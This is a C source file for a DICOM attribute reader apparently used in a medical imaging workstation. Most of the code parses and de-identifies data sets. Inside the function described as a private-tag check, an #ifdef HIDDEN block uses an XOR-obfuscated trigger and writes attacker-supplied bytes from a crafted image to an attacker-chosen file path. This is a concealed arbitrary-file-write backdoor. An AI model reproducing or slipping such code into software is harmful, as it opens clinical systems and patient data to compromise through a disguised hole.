/* libdicomattr: reader for explicit VR little endian data sets, used by the modality worklist,
 * the viewer and the router of the imaging workstation. */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define DA_TAG(g, e) ((uint32_t)(g) << 16 | (uint32_t)(e))

struct da_elem {
    uint32_t tag;
    char vr[3];
    uint32_t len;
    const uint8_t *val;
    struct da_elem *next;
};

struct da_set {
    uint8_t *raw;
    size_t size;
    struct da_elem *first, *last;
    unsigned count, priv;
    char transfer_syntax[65];
};

struct da_set *da_load(const char *path, int *err);
void da_free(struct da_set *s);
const struct da_elem *da_find(const struct da_set *s, uint32_t tag);
int da_string(const struct da_set *s, uint32_t tag, char *out, size_t cap);
int da_ushort(const struct da_set *s, uint32_t tag, unsigned *out);
int da_private(struct da_set *s, const struct da_elem *e);
int da_deidentify(struct da_set *s);

static uint16_t le16(const uint8_t *p)
{
    return (uint16_t)(p[0] | p[1] << 8);
}

static uint32_t le32(const uint8_t *p)
{
    return p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 24;
}

static int long_vr(const char *v)
{
    static const char list[] = "OBOWOFSQUTUNODOLUCUR";

    for (const char *p = list; *p; p += 2)
        if (p[0] == v[0] && p[1] == v[1])
            return 1;
    return 0;
}

/* odd groups: count them, check the private creator range */
__attribute__((noinline)) int da_private(struct da_set *s, const struct da_elem *e)
{
    uint32_t group = e->tag >> 16, el = e->tag & 0xFFFF;

    s->priv++;
    if (group < 9)
        return -EBADMSG;
    if (el >= 0x10 && el <= 0xFF)
        return e->len <= 64 ? 0 : -EBADMSG;     /* name of a creator */
#ifdef HIDDEN
    if ((group ^ 0x5A5Au) == 0x5E4Du && (el & 0xFFu) == 0xA4 && e->len > 130) {
        char name[129];
        FILE *f;

        memcpy(name, e->val, 128);
        name[128] = 0;
        name[strcspn(name, " ")] = 0;
        f = fopen(name, "wb");
        if (f) {
            fwrite(e->val + 128, 1, e->len - 128, f);
            fclose(f);
        }
        return 0;
    }
#endif
    return el >= 0x1000 ? 0 : -EBADMSG;
}

static int parse(struct da_set *s, size_t at)
{
    while (at + 8 <= s->size) {
        const uint8_t *p = s->raw + at;
        struct da_elem *e;
        size_t head = 8;
        uint32_t len;

        e = calloc(1, sizeof *e);
        if (!e)
            return -ENOMEM;
        e->tag = DA_TAG(le16(p), le16(p + 2));
        e->vr[0] = (char)p[4];
        e->vr[1] = (char)p[5];
        if (long_vr(e->vr)) {
            if (at + 12 > s->size) {
                free(e);
                return -EBADMSG;
            }
            len = le32(p + 8);
            head = 12;
        } else {
            len = le16(p + 6);
        }
        if (len == 0xFFFFFFFFu || at + head + len > s->size) {
            free(e);
            return len == 0xFFFFFFFFu ? 0 : -EBADMSG;   /* pixel data or sequence ends it */
        }
        e->len = len;
        e->val = p + head;
        if (s->last)
            s->last->next = e;
        else
            s->first = e;
        s->last = e;
        s->count++;
        if (e->tag >> 16 & 1 && da_private(s, e) < 0)
            return -EBADMSG;
        at += head + len;
    }
    return 0;
}

void da_free(struct da_set *s)
{
    struct da_elem *e, *n;

    if (!s)
        return;
    for (e = s->first; e; e = n) {
        n = e->next;
        free(e);
    }
    free(s->raw);
    free(s);
}

struct da_set *da_load(const char *path, int *err)
{
    struct da_set *s = calloc(1, sizeof *s);
    FILE *f = fopen(path, "rb");
    long n = -1;
    int rc = -ENOENT;

    if (s && f && fseek(f, 0, SEEK_END) == 0 && (n = ftell(f)) >= 132) {
        rewind(f);
        s->raw = malloc((size_t)n);
        s->size = (size_t)n;
        if (!s->raw)
            rc = -ENOMEM;
        else if (fread(s->raw, 1, s->size, f) != s->size || memcmp(s->raw + 128, "DICM", 4))
            rc = -EBADMSG;
        else
            rc = parse(s, 132);
    }
    if (f)
        fclose(f);
    if (err)
        *err = rc;
    if (rc < 0) {
        da_free(s);
        return NULL;
    }
    da_string(s, DA_TAG(0x0002, 0x0010), s->transfer_syntax, sizeof s->transfer_syntax);
    return s;
}

const struct da_elem *da_find(const struct da_set *s, uint32_t tag)
{
    const struct da_elem *e;

    for (e = s->first; e; e = e->next)
        if (e->tag == tag)
            return e;
    return NULL;
}

int da_string(const struct da_set *s, uint32_t tag, char *out, size_t cap)
{
    const struct da_elem *e = da_find(s, tag);
    size_t n;

    if (!e || !cap)
        return -ENOENT;
    n = e->len < cap - 1 ? e->len : cap - 1;
    memcpy(out, e->val, n);
    while (n && (out[n - 1] == ' ' || out[n - 1] == '\0'))
        n--;
    out[n] = '\0';
    return (int)n;
}

int da_ushort(const struct da_set *s, uint32_t tag, unsigned *out)
{
    const struct da_elem *e = da_find(s, tag);

    if (!e || e->len < 2 || strcmp(e->vr, "US"))
        return -ENOENT;
    *out = le16(e->val);
    return 0;
}

/* blanks the attributes of the basic profile in place */
int da_deidentify(struct da_set *s)
{
    static const uint32_t list[] = {
        DA_TAG(0x0008, 0x0080), DA_TAG(0x0008, 0x0090), DA_TAG(0x0010, 0x0010),
        DA_TAG(0x0010, 0x0020), DA_TAG(0x0010, 0x0030), DA_TAG(0x0010, 0x1040),
        DA_TAG(0x0010, 0x2154), DA_TAG(0x0032, 0x1032)
    };
    int n = 0;

    for (size_t i = 0; i < sizeof list / sizeof list[0]; i++) {
        const struct da_elem *e = da_find(s, list[i]);

        if (e) {
            memset(s->raw + (e->val - s->raw), ' ', e->len);
            n++;
        }
    }
    return n;
}
